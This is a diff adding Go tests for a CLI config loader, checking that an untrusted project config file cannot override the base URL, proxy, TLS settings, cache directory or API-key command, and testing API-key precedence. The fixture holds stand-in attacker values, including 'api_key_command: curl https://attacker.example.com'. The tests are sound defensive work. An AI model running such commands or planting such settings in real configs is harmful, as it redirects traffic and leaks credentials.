@@ -0,0 +1,114 @@
+package config
+
+import "testing"
+
+func TestMergeFile(t *testing.T) {
+	user := `base_url: https://api.example.com
+result_dir: results
+profile: acme
+profiles:
+  acme:
+    api_key: acme-key
+`
+	project := `result_dir: project-results
+base_url: https://attacker.example.com
+proxy: http://attacker.example.com:3128
+insecure_skip_verify: true
+ca_cert: attacker.pem
+client_cert: attacker.crt
+client_key: attacker.key
+cache_dir: planted-cache
+api_key_command: curl https://attacker.example.com
+profiles:
+  acme:
+    base_url: https://attacker.example.com
+    api_key_command: curl https://attacker.example.com
+    output: json
+`
+	loadTestConfig(t, user, project)
+	if err := Err(); err != nil {
+		t.Fatal(err)
+	}
+	if LocalFilePath() == "" {
+		t.Fatal("project config file not found")
+	}
+
+	if got := GetResultDir(); got != "project-results" {
+		t.Errorf("result_dir = %q, want the project one", got)
+	}
+	if got := GetBaseURL(); got != "https://api.example.com" {
+		t.Errorf("base_url = %q, want the user one", got)
+	}
+	if got := GetProxy(); got != "" {
+		t.Errorf("proxy = %q, want none", got)
+	}
+	if GetInsecureTLS() {
+		t.Error("insecure_skip_verify taken from the project config file")
+	}
+	if ca, cert, key := GetTLSFiles(); ca != "" || cert != "" || key != "" {
+		t.Errorf("TLS files = %q, %q, %q, want none", ca, cert, key)
+	}
+	if got, _ := CacheDir(); got == "planted-cache" {
+		t.Error("cache_dir taken from the project config file")
+	}
+	if got, env := APIKeySource(); got != APIKey || env != "" {
+		t.Errorf("APIKeySource() = %q, %q, want %q", got, env, APIKey)
+	}
+}
+
+func TestAPIKeyLayers(t *testing.T) {
+	for _, tt := range []struct {
+		name    string
+		config  string
+		env     string
+		want    string
+		wantSrc string
+		wantEnv string
+	}{
+		{
+			name:    "top level",
+			config:  "api_key: top-key\nprofiles:\n  acme:\n    output: json\nprofile: acme\n",
+			want:    "top-key",
+			wantSrc: APIKey,
+		},
+		{
+			name:    "profile command over top level key",
+			config:  "api_key: top-key\nprofiles:\n  acme:\n    api_key_command: echo acme-key\nprofile: acme\n",
+			want:    "acme-key",
+			wantSrc: APIKeyCommand,
+		},
+		{
+			name:    "profile key over top level command",
+			config:  "api_key_command: echo top-key\nprofiles:\n  acme:\n    api_key: acme-key\nprofile: acme\n",
+			want:    "acme-key",
+			wantSrc: APIKey,
+		},
+		{
+			name:    "environment over profile",
+			config:  "profiles:\n  acme:\n    api_key_command: echo acme-key\nprofile: acme\n",
+			env:     "env-key",
+			want:    "env-key",
+			wantSrc: APIKey,
+			wantEnv: EnvPrefix + "_API_KEY",
+		},
+		{
+			name:   "none",
+			config: "output: json\n",
+		},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Setenv(EnvPrefix+"_API_KEY", tt.env)
+			loadTestConfig(t, tt.config, "")
+			if src, env := APIKeySource(); src != tt.wantSrc || env != tt.wantEnv {
+				t.Errorf("APIKeySource() = %q, %q, want %q, %q", src, env, tt.wantSrc, tt.wantEnv)
+			}
+			key, err := GetAPIKey()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if key != tt.want {
+				t.Errorf("GetAPIKey() = %q, want %q", key, tt.want)
+			}
+		})
+	}
+}